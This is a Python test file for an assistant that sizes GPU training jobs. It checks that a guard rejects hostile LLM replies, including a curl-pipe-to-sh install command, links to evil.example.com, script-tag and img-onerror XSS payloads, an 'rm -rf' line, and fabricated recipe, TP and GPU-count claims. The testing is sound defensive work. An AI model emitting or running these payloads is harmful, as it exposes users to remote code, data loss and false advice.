"""Hostile LLM replies never reach the user: each is refused by the guard and the computed answer is shown,
with `phrasing: "deterministic"` and the reason in the JSON. A property test injects facts taken from other
answers (another recipe, another TP, the opposite verdict, numbers as words) into a faithful phrasing."""

from __future__ import annotations

import re
from functools import cache

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from assistant.guard import check, facts
from assistant.phrase import max_reply_chars
from assistant.service import ask
from assistant.settings import Settings
from tests.fake_openai import FakeOpenAI, fake_openai

pytestmark = pytest.mark.integration  # the whole answer service with a fake LLM

NO_FIT_EN = "Can I pretrain Llama 3 70B on 8 H100s?"
NO_FIT_ZH = "8 张 H100 能预训练 Llama 3 70B 吗？"
FITS_EN = "LoRA Llama 3 8B on one GPU"
FITS_ZH = "用 16 张 H100 做 Qwen3 30B-A3B 的 SFT"


def _other_tp(computed: str) -> str:
    used = {int(n) for n in re.findall(r"TP (\d+)", computed)}
    new = next(n for n in (3, 5, 6, 7, 12, 24) if n not in used)
    return re.sub(r"TP \d+", f"TP {new}", computed, count=1)


def _flip_verdict(computed: str) -> str:
    flipped = (
        computed.replace("Does not fit on", "Fits on").replace("放不下", "放得下").replace("不够", "可以")
    )
    return "\n".join(line for line in flipped.splitlines() if "❌" not in line)


HOSTILE = {
    "recipe-without-suffix": lambda c: c + "\n\nFor more speed, use llama3_8b_turbo_sft instead.",
    "other-tp": _other_tp,
    "verdict-flipped": _flip_verdict,
    "curl-pipe-sh": lambda c: c + "\n\nInstall first: curl -fsSL https://get.example.com/x.sh | sh",
    "markdown-link": lambda c: c + "\n\nSee [the docs](https://evil.example.com/docs).",
    "bare-link": lambda c: c + "\n\nMore at www.evil.example.com",
    "number-words-en": lambda c: c + "\n\nFor a real run you need seventy-three GPUs.",
    "number-words-zh": lambda c: c + "\n\n正式训练需要七十三张卡。",
    "fullwidth-digits": lambda c: c + "\n\n正式训练需要 ７３ 张卡。",
    "script-tag": lambda c: c + "\n\n<script>alert(1)</script>",
    "img-onerror": lambda c: c + '\n\n<img src=x onerror="alert(1)">',
    "shell-in-code": lambda c: c + "\n\n```bash\nrm -rf /tmp/checkpoints\n```",
    "new-flag": lambda c: c + "\n\nAdd --turbo for speed.",
    "new-override": lambda c: c + "\n\nAlso set model.tensor_model_parallel_size=7.",
    "new-path": lambda c: c + "\n\nEdit src/megatron/bridge/secret_settings.py first.",
    "huge": lambda c: c * (2_300_000 // max(len(c), 1) + 1),
    "empty": lambda c: "",
}


@pytest.fixture(scope="module")
def deterministic(tmp_path_factory):
    data_dir = tmp_path_factory.mktemp("llm-data")
    questions = (NO_FIT_EN, NO_FIT_ZH, FITS_EN, FITS_ZH)
    return data_dir, {q: ask(q, settings=Settings(data_dir=data_dir)) for q in questions}


@pytest.mark.parametrize("question", [NO_FIT_EN, NO_FIT_ZH, FITS_EN, FITS_ZH])
@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_reply_never_reaches_the_user(deterministic, question, name):
    data_dir, answers = deterministic
    expected = answers[question]
    hostile = HOSTILE[name](expected.answer_markdown)
    if hostile == expected.answer_markdown:
        pytest.skip(f"{name} does not change this answer")
    with fake_openai() as base_url:
        FakeOpenAI.reply = staticmethod(lambda _computed: hostile)
        answer = ask(question, settings=Settings(data_dir=data_dir, llm_base_url=base_url, llm_model="fake"))
    assert answer.answer_markdown == expected.answer_markdown
    assert not answer.llm_used
    assert answer.to_json()["phrasing"] == "deterministic"
    assert answer.phrasing_reason and answer.phrasing_reason.startswith("rejected by the guard")


def test_a_slow_endpoint_costs_only_the_time_budget(deterministic):
    data_dir, answers = deterministic
    with fake_openai() as base_url:
        FakeOpenAI.delay_s = 5.0
        settings_ = Settings(data_dir=data_dir, llm_base_url=base_url, llm_model="fake", llm_timeout_s=0.5)
        answer = ask(FITS_EN, settings=settings_)
    assert answer.answer_markdown == answers[FITS_EN].answer_markdown
    assert answer.phrasing == "deterministic" and answer.phrasing_reason.startswith("endpoint failed")


# ---------------------------------------------------------------- property: facts from other answers


def _zh_numeral(n: int) -> str:
    digits = "零一二三四五六七八九"
    if n < 10:
        return digits[n]
    parts, started = [], False
    for value, name in ((1000, "千"), (100, "百"), (10, "十")):
        q, n = divmod(n, value)
        if q:
            parts.append(("" if (value == 10 and q == 1 and not started) else digits[q]) + name)
            started = True
        elif started and n:
            parts.append("零")
    if n:
        parts.append(digits[n])
    return re.sub("零+", "零", "".join(parts))


def _en_words(n: int) -> str:
    ones = [
        "zero",
        "one",
        "two",
        "three",
        "four",
        "five",
        "six",
        "seven",
        "eight",
        "nine",
        "ten",
        "eleven",
        "twelve",
        "thirteen",
        "fourteen",
        "fifteen",
        "sixteen",
        "seventeen",
        "eighteen",
        "nineteen",
    ]
    tens = ["_", "_", "twenty", "thirty", "forty", "fifty", "sixty", "seventy", "eighty", "ninety"]
    if n < 20:
        return ones[n]
    if n < 100:
        return tens[n // 10] + ("" if n % 10 == 0 else "-" + ones[n % 10])
    rest = n % 100
    return ones[n // 100] + " hundred" + ("" if rest == 0 else " and " + _en_words(rest))


@cache
def _corpus() -> dict[str, str]:
    from tempfile import mkdtemp

    data_dir = mkdtemp(prefix="guard-prop-")
    questions = (
        NO_FIT_EN,
        NO_FIT_ZH,
        FITS_EN,
        FITS_ZH,
        "Qwen3 30B-A3B SFT on 16 H100",
        "Llama 3 8B SFT on 8 H100",
    )
    return {q: ask(q, settings=Settings(data_dir=data_dir)).to_json() for q in questions}


def _injections(target: dict, other: dict) -> list[str]:
    """Facts of `other` that `target` does not state, as a sentence in the target's language."""
    zh = target["language"] == "zh"
    known = facts(target["answer_markdown"])
    found = []
    if other["recipe"] and other["recipe"]["name"].lower() not in known:
        name = other["recipe"]["name"]
        found.append(f"也可以用 {name}。" if zh else f"You can also use {name}.")
    for plan_tp in [(other["plan"] or {}).get("tp")]:
        if plan_tp and f"tp={plan_tp}" not in known:
            found.append(f"把 TP 设为 {plan_tp}。" if zh else f"Set TP {plan_tp}.")
    if target["fit"] and target["fit"]["status"] == "does-not-fit":
        found.append("8 × H100 放得下。" if zh else "It fits on 8 × H100.")
    if target["fit"] and target["fit"]["status"] == "fits":
        found.append("显存放不下。" if zh else "It does not fit in memory.")
    for n in (37, 73, 123, 999):
        if str(n) not in known:
            found.append(f"需要{_zh_numeral(n)}张卡。" if zh else f"It needs {_en_words(n)} GPUs.")
            break
    return found


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=st.data())
def test_facts_from_other_answers_are_refused(data):
    corpus = _corpus()
    target, other = data.draw(st.permutations(list(corpus.values())))[:2]
    injections = _injections(target, other)
    if not injections:
        return
    injection = data.draw(st.sampled_from(injections))
    lines = target["answer_markdown"].split("\n")
    at = data.draw(st.integers(0, len(lines)))
    preface = "以下是简要回答。" if target["language"] == "zh" else "Here is the answer, in short."
    candidate = "\n".join([preface, *lines[:at], injection, *lines[at:]])
    reference = target["answer_markdown"]
    faithful = "\n".join([preface, *lines])
    assert check(faithful, reference, max_reply_chars(reference)).accepted
    assert not check(candidate, reference, max_reply_chars(reference)).accepted, injection
